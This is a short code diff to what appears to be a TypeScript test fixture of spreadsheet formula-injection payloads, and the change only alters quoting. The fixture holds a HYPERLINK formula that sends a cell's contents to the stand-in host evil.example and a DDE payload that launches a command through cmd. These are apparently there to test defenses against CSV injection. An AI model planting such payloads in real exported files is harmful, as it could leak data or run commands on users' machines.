@@ -41,7 +41,7 @@ function csvRows(text: string): Record<string, string>[] {
 /** Text that opens as a formula in a spreadsheet, one per start character OWASP lists. */
 const FORMULAS = {
   equals: '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
-  plus: '+1+cmd|\' /C calc\'!A0',
+  plus: "+1+cmd|' /C calc'!A0",
   minus: '-2+3',
   at: '@SUM(1+1)',
   tab: '\t=1+1',
